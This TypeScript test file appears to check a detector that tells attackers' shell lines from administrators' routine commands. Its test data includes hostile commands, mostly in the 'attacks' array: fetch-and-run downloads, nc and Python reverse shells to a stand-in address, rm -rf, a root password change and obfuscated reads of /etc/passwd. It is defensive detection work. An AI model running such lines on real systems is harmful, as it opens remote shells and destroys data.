import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { commandAttackFrom, undisguise } from '../../../src/score/command.ts';
import { openShellModel, readLine, splitStatements } from '../../../src/score/shell/index.ts';
import { formOfWord } from '../../../src/score/shell/keywords.ts';

const texts = (line: string): string[] => splitStatements(line).map(({ text }) => text);

describe('a command line', () => {
  it('is cut into statements at line ends, semicolons, pipes and conditions', () => {
    assert.deepEqual(texts('a; b|c && d || e\nf;g'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    assert.deepEqual(
      splitStatements('a | b && c').map(({ before }) => before),
      ['', '|', '&&'],
    );
  });

  it('keeps what is quoted or in braces together, unless separators stand apart in it', () => {
    assert.deepEqual(texts(`awk '{print $1;print $2}' x`), [`awk '{print $1;print $2}' x`]);
    assert.deepEqual(texts('awk {print $4,$5;}'), ['awk {print $4,$5;}']);
    assert.deepEqual(texts(`python -c 'import os;os.system("id")'`), [
      `python -c 'import os;os.system("id")'`,
    ]);
    assert.deepEqual(texts('echo "curl x || wget y" > z'), ['echo "curl x', 'wget y" > z']);
  });

  it('may be empty, endless, or nothing but separators', () => {
    assert.deepEqual(texts(''), []);
    assert.deepEqual(texts(' ; ;; \n | '), []);
    assert.equal(texts('a;'.repeat(9_000)).length, 2_000);
  });

  it('is read as the shell will run it where words were taken apart', () => {
    assert.equal(undisguise('cat${IFS}/etc/passwd'), 'cat /etc/passwd');
    assert.equal(undisguise("n''c -e /bin/sh"), 'nc -e /bin/sh');
    assert.equal(undisguise('wg\\et x'), 'wget x');
    assert.equal(undisguise('dir C:\\temp\\logs'), 'dir C:\\temp\\logs');
    assert.equal(undisguise("echo -ne '\\x7f\\x45'"), "echo -ne '\\x7f\\x45'");
    assert.equal(undisguise('echo ""'), 'echo ""');
  });

  it('has words that are made alike', () => {
    assert.deepEqual(
      [
        'http://198.51.100.7/x.sh',
        '198.51.100.7',
        '-rf',
        '/tmp/k9xa.sh',
        '12345',
        'example.com',
        'a'.repeat(60),
      ].map(formOfWord),
      ['<url>', '<address>', '-rf', '/tmp/*.sh', '<number>', '<host>', '<blob>'],
    );
  });
});

describe('the shell model', () => {
  const model = openShellModel();

  const attacks = [
    'cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *',
    'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0)'`,
    '/bin/busybox KAMBA',
  ];
  const jobs = [
    'git commit -m "fix the build"',
    'npm run build && npm test',
    'find . -name "*.log" -mtime +7 -delete',
    'docker compose up -d --build',
    'sudo apt-get install -y nginx',
    'tar czf backup.tgz src docs',
    'ssh deploy@web-1.example.com uptime',
    'kubectl get pods -n production',
    'sed -i s/foo/bar/g README.md',
    'rsync -av ./site/ deploy@web-1.example.com:/srv/site/',
  ];
  for (const line of attacks)
    it(`knows an attacker’s line: ${line.slice(0, 40)}`, () => {
      const { attack, evidence } = model.judge(readLine(line));
      assert.ok(attack >= commandAttackFrom, String(attack));
      assert.ok(line.includes(evidence) && evidence !== '');
    });
  for (const line of jobs)
    it(`leaves an administrator’s line alone: ${line.slice(0, 40)}`, () => {
      assert.ok(
        model.judge(readLine(line)).attack < commandAttackFrom,
        String(model.judge(readLine(line)).attack),
      );
    });

  it('names tactics by what stands around a statement', () => {
    const tag = (line: string) => model.tag(readLine(line));
    assert.deepEqual(
      new Set(tag('uname -a ; cat /proc/cpuinfo | grep name | wc -l ; free -m ; w')),
      new Set(['Discovery']),
    );
    assert.deepEqual(tag('cat /proc/cpuinfo | grep name ; echo root:k3yX9 | chpasswd | bash').slice(2), [
      'Persistence',
      'Persistence',
      'Persistence',
    ]);
    assert.deepEqual(
      tag('cd /tmp ; wget http://198.51.100.7/a.sh ; chmod 777 a.sh ; sh a.sh ; rm -rf a.sh'),
      ['Execution', 'Execution', 'Execution', 'Execution', 'Defense Evasion'],
    );
    assert.deepEqual(tag(''), []);
  });

  it('says how much of a line is new to it', () => {
    assert.ok(
      model.judge(readLine('zqxjk vblorp snarf')).unknownShare >
        model.judge(readLine('ls -la /tmp')).unknownShare,
    );
    assert.equal(model.judge(readLine('')).unknownShare, 0);
  });

  it('judges the same line the same', () => {
    for (const line of [...attacks, ...jobs])
      assert.deepEqual(model.judge(readLine(line)), model.judge(readLine(line)));
  });
});
